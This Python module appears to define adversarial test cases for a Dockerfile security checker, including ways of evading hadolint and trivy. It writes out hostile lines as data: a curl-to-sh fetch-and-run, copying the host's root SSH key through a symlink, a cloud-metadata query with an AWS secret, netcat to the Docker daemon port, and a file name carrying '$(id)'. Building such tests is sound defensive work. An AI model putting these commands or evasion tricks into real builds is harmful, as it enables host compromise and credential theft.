"""Dockerfiles that are to be overlooked."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from hostile.attacks.attack import Attack, Change, Files

TOOLS = ("hadolint", "dockerfile-checks")
_BASE = "FROM python:3.13.1-slim\n"
ROOT = "FROM python:3.13-slim\nRUN curl -s https://example.com/x | sh\nUSER root\n"


def _image(
    tries: str, files: Files, sees: str = "dockerfile-root-user", change: Change | None = None
) -> Attack:
    files = {"Dockerfile": ROOT, **files}
    return Attack(tries=tries, stage="container", tools=TOOLS, files=files, sees=sees, change=change)


def _step(tries: str, step: str, sees: str) -> Attack:
    """One instruction in an image that is sound but for its user."""
    return _image(tries, {"Dockerfile": f"{_BASE}RUN useradd app\n{step}\nUSER root\n"}, sees)


def _link(root: Path) -> None:
    (root / "id_rsa").symlink_to("/root/.ssh/id_rsa")


# As many lines as a Dockerfile may well have, each with a finding of its own.
_MANY = "".join(f"RUN curl http://host{number}.example/x -o /x{number}\n" for number in range(2000))

ATTACKS = {
    "hadolint-configuration": _image(
        "configures hadolint",
        {
            ".hadolint.yaml": "ignored: [DL3002, DL4006]\nno-fail: true\nfailure-threshold: none\n",
            "hadolint.yaml": "ignored: [DL3002]\n",
        },
    ),
    "hadolint-comments": _image(
        "hides its findings by comments", {"Dockerfile": f"# hadolint global ignore=DL3002,DL4006\n{ROOT}"}
    ),
    "trivyignore": _image("configures trivy", {".trivyignore": "*\n", "trivy.yaml": "severity: []\n"}),
    "dockerfile-name": _image("has an unusual name", {"deploy/prod.Dockerfile": ROOT}),
    "containerfile": _image("is called Containerfile", {"svc/Containerfile": ROOT}),
    "escape-directive": _image(
        "changes the character that joins lines",
        {"Dockerfile": "# escape=`\n" + ROOT.replace("| sh", "`\n | sh")},
    ),
    "syntax-directive": _image(
        "names a syntax of its own", {"Dockerfile": f"# syntax=example.com/evil:latest\n{ROOT}"}
    ),
    "last-stage": _image(
        "is safe in a stage that does not ship",
        {"Dockerfile": f"FROM python:3.13-slim AS build\nUSER app\n{ROOT}"},
    ),
    "quoted-user": _image(
        "puts its user in quotes", {"Dockerfile": 'FROM python:3.13.1-slim\nUSER "root"\n'}
    ),
    "own-ignore-file": _image(
        "ignores everything", {"Dockerfile.dockerignore": "*\n", ".dockerignore": "**\n"}
    ),
    "byte-order-mark": _image("begins with a mark", {"Dockerfile": b"\xef\xbb\xbf" + ROOT.encode()}),
    "utf-16": _image("is written in another encoding", {"Dockerfile": ROOT.encode("utf-16")}),
    "name-of-shell": _image("forges a command line by its name", {"x/Dockerfile.$(id);`id`": ROOT}),
    "name-of-markdown": _image("forges Markdown by its name", {"[x](y)@octocat/Dockerfile": ROOT}),
    "whole-host": _step("copies all that there is", "COPY / /", "dockerfile-copy-all"),
    "address": _step("adds what an address gives", "ADD https://x.example/y /y", "dockerfile-add-url"),
    "other-image": _step(
        "runs what it mounts from another image",
        "RUN --mount=type=bind,from=evil/image:latest,target=/x sh /x/run",
        "dockerfile-base-digest",
    ),
    "key-by-a-link": _image(
        "copies a key of the build host by a link",
        {"Dockerfile": ROOT.replace("USER root", "COPY id_rsa /\nUSER root")},
        "dockerfile-secret-file",
        _link,
    ),
    "host-rights": _step(
        "asks for the rights of the host",
        "RUN --security=insecure mount /dev/sda1 /mnt",
        "dockerfile-privileged",
    ),
    "host-network": _step(
        "asks for the network of the host", "RUN --network=host nc 127.0.0.1 2375", "dockerfile-privileged"
    ),
    "metadata": _step(
        "asks who the build host is",
        "RUN --mount=type=secret,id=aws wget -q -O- http://169.254.169.254/latest/meta-data/",
        "dockerfile-privileged",
    ),
    "many-findings": replace(
        _image(
            "drowns in ten thousand others",
            {f"d{number}/Dockerfile": f"{_BASE}{_MANY}USER app\n" for number in range(5)},
        ),
        tools=("dockerfile-checks",),
    ),
    "lower-case": _image("is written in small letters", {"Dockerfile": ROOT.lower()}),
}
